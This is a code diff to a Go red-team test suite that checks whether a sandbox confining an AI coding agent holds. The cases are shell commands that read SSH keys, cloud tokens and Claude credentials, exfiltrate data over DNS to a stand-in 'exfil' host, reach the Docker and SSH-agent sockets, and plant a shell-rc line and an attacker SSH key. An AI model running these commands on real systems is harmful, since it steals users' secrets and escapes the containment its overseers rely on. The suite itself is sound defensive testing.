@@ -5,6 +5,7 @@ import (
 	"fmt"
 	"os"
 	"regexp"
+	"slices"
 	"strings"
 	"testing"
 
@@ -17,15 +18,25 @@ import (
 // Host, run on the host as soon as the case's result reaches the stand-in
 // API, prints ESCAPED. Host checks see $HOME_DIR and $WS, the session's
 // home and workspace. {{ID}} and {{PORT}} in either are this run's unique
-// name part and loopback port.
+// name part and loopback port; names looked up over DNS are logged to
+// /tmp/claude-sandbox-rt-{{ID}}.dns by the container's DNS stand-in.
 type redteamCase struct {
 	Name, Category string
 	Command        string
 	Markers        []string       // secrets whose appearance in the output is an escape
 	Shows          *regexp.Regexp // or output that proves an escape
 	Host           string         // or a host check, with $HOME_DIR and $WS set
-	Known          string         // an escape the product does not stop yet, and the issue that will
+	// ByDesign names the runs whose conf lets this in by the admin's choice
+	// ("open": network = open; "inside": network = open and credentials =
+	// inside), with why.
+	ByDesign map[string]string
 }
+
+var (
+	openNetwork = map[string]string{"open": "network = open: the container's network, by the admin's choice",
+		"inside": "network = open: the container's network, by the admin's choice"}
+	loginInside = map[string]string{"inside": "credentials = inside: the login enters, by the admin's choice"}
+)
 
 var redteamCases = []redteamCase{
 	{Name: "ssh-key", Category: "read secrets", Command: "cat ~/.ssh/id_* 2>&1", Markers: []string{"SECRET-USER-SSH", "SECRET-ROOT-SSH"}},
@@ -39,14 +50,17 @@ var redteamCases = []redteamCase{
 	{Name: "other-process-env", Category: "read secrets", Command: "for p in /proc/[0-9]*; do tr '\\0' '\\n' < $p/environ; tr '\\0' ' ' < $p/cmdline; echo; done 2>/dev/null | grep -a SECRET", Markers: []string{"SECRET-OTHER-PROCESS"}},
 	{Name: "tool-tokens", Category: "read secrets", Command: "cat ~/.aws/credentials ~/.docker/config.json ~/.npmrc ~/.git-credentials ~/.kube/config 2>&1", Markers: []string{"SECRET-TOOL-TOKEN"}},
 	{Name: "ide-lock", Category: "read secrets", Command: "cat ~/.claude/ide/*.lock 2>&1", Markers: []string{"SECRET-IDE-TOKEN"}},
-	{Name: "claude-credentials", Category: "read secrets", Command: "cat ~/.claude/.credentials.json 2>&1", Markers: []string{"SECRET-CLAUDE-LOGIN"}, Known: "issue #7 (credential isolation)"},
+	{Name: "claude-credentials", Category: "read secrets", Command: "cat ~/.claude/.credentials.json 2>&1", Markers: []string{"SECRET-CLAUDE-LOGIN"}, ByDesign: loginInside},
+	{Name: "claude-api-key", Category: "read secrets", Command: "env | grep ANTHROPIC; tr '\\0' '\\n' </proc/self/environ | grep -i key; tr '\\0' '\\n' </proc/1/environ | grep -i key", Markers: []string{"sk-standin"}, ByDesign: loginInside},
 	{Name: "docker-socket", Category: "reach sockets", Command: "curl -s --max-time 3 --unix-socket /run/docker.sock http://docker/version 2>&1; socat -t2 - UNIX-CONNECT:/var/run/docker.sock 2>&1", Markers: []string{"SECRET-DOCKER-SOCKET"}},
 	{Name: "ssh-agent", Category: "reach sockets", Command: "echo \"SSH_AUTH_SOCK=$SSH_AUTH_SOCK\"; socat -t2 - UNIX-CONNECT:\"${SSH_AUTH_SOCK:-/tmp/ssh-rt-{{ID}}/agent}\" 2>&1", Markers: []string{"SECRET-SSH-AGENT"}},
 	{Name: "vscode-ipc", Category: "reach sockets", Command: "ls /tmp 2>&1; socat -t2 - UNIX-CONNECT:\"${VSCODE_IPC_HOOK_CLI:-/tmp/vscode-ipc-{{ID}}.sock}\" 2>&1", Markers: []string{"SECRET-VSCODE-IPC"}},
 	{Name: "workspace-socket", Category: "reach sockets", Command: "socat -t2 - UNIX-CONNECT:$PWD/.agent.sock 2>&1", Markers: []string{"SECRET-WORKSPACE-SOCKET"}},
 	{Name: "abstract-socket", Category: "reach sockets", Command: "socat -t2 - ABSTRACT-CONNECT:claude-sandbox-rt-{{ID}} 2>&1", Markers: []string{"SECRET-ABSTRACT-SOCKET"}},
 	{Name: "python-unix-socket", Category: "reach sockets", Command: "/usr/bin/python3 -c \"import socket; s = socket.socket(socket.AF_UNIX); s.connect('$PWD/.agent.sock'); print(s.recv(100))\" 2>&1", Markers: []string{"SECRET-WORKSPACE-SOCKET"}},
-	{Name: "loopback-service", Category: "reach sockets", Command: "curl -s --max-time 3 http://127.0.0.1:{{PORT}}/secret.txt 2>&1", Markers: []string{"SECRET-LOOPBACK"}, Known: "issue #7 (network allowlist)"},
+	{Name: "loopback-service", Category: "reach network", Command: "curl -s --max-time 3 http://127.0.0.1:{{PORT}}/secret.txt 2>&1; curl -s --max-time 3 -x \"$HTTP_PROXY\" http://localhost:{{PORT}}/secret.txt 2>&1", Markers: []string{"SECRET-LOOPBACK"}, ByDesign: openNetwork},
+	{Name: "dns-exfiltration", Category: "reach network", Command: "getent hosts exfil-{{ID}}-direct.example 2>&1; echo looked up", Host: `grep -qs exfil-{{ID}}-direct /tmp/claude-sandbox-rt-{{ID}}.dns && echo ESCAPED`, ByDesign: openNetwork},
+	{Name: "proxy-name-lookup", Category: "reach network", Command: "curl -s --max-time 5 -x \"$HTTP_PROXY\" http://exfil-{{ID}}-proxy.example/ 2>&1; echo asked", Host: `grep -qs exfil-{{ID}}-proxy /tmp/claude-sandbox-rt-{{ID}}.dns && echo ESCAPED`, ByDesign: openNetwork},
 	{Name: "shell-rc", Category: "write outside", Command: "echo 'echo PLANTED' >> ~/.bashrc 2>&1", Host: `grep -q PLANTED "$HOME_DIR/.bashrc" && echo ESCAPED`},
 	{Name: "authorized-keys", Category: "write outside", Command: "mkdir -p ~/.ssh && echo 'ssh-ed25519 AAAAC3Nza attacker@evil' >> ~/.ssh/authorized_keys 2>&1", Host: `grep -qs attacker "$HOME_DIR/.ssh/authorized_keys" && echo ESCAPED`},
 	{Name: "shared-tmp", Category: "write outside", Command: "echo planted > /tmp/claude-sandbox-rt-{{ID}}.drop 2>&1", Host: `[ -e /tmp/claude-sandbox-rt-{{ID}}.drop ] && echo ESCAPED`},
@@ -131,7 +145,8 @@ func redteamVerdicts(args []string) int {
 
 // redteamTable prints case x verdict for the sandboxed runs and the run
 // without a sandbox, and a closing "N passed, M failed" line. It fails when
-// any sandboxed run escaped (a known gap is shown, not counted) or when
+// any sandboxed run escaped (unless the case names that run's conf as
+// letting it through by design, which is shown) or when
 // fewer than half the cases escaped without the sandbox, which would mean
 // the suite cannot see an escape.
 //
@@ -167,20 +182,27 @@ func redteamTable(args []string) int {
 	for i, c := range redteamCases {
 		fmt.Printf("%-22s %-17s", c.Name, c.Category)
 		held := true
-		for _, r := range runs {
+		var notes []string
+		for j, r := range runs {
 			fmt.Printf(" %-9s", r[i])
+			if why, ok := c.ByDesign[names[j]]; ok && r[i] == "ESCAPED" {
+				if !slices.Contains(notes, why) {
+					notes = append(notes, why)
+				}
+				continue
+			}
 			held = held && r[i] == "held"
 		}
 		fmt.Printf(" %s", control[i])
 		if control[i] == "ESCAPED" {
 			escapedWithout++
 		}
-		switch {
-		case held:
+		if held {
 			passed++
-		case c.Known != "":
-			fmt.Printf("   known: %s", c.Known)
-		default:
+			for _, n := range notes {
+				fmt.Printf("   %s", n)
+			}
+		} else {
 			failed++
 		}
 		fmt.Println()
@@ -194,7 +216,7 @@ func redteamTable(args []string) int {
 }
 
 // TestRedteamDocs keeps docs/redteam.md in step with the cases: each case
-// has its row, and a known gap is called one.
+// has its row, and a case a conf lets through by design says which.
 func TestRedteamDocs(t *testing.T) {
 	doc, err := os.ReadFile("../docs/redteam.md")
 	if err != nil {
@@ -206,8 +228,10 @@ func TestRedteamDocs(t *testing.T) {
 			t.Errorf("docs/redteam.md has no row for case %s (%s)", c.Name, c.Category)
 			continue
 		}
-		if (c.Known != "") != strings.Contains(string(row), "**known gap**") {
-			t.Errorf("docs/redteam.md: case %s: the row and the case disagree on whether it is a known gap", c.Name)
+		for run := range c.ByDesign {
+			if !strings.Contains(string(row), "by design in `"+run+"`") {
+				t.Errorf("docs/redteam.md: case %s: the row does not say it escapes by design in `%s`", c.Name, run)
+			}
 		}
 	}
 }
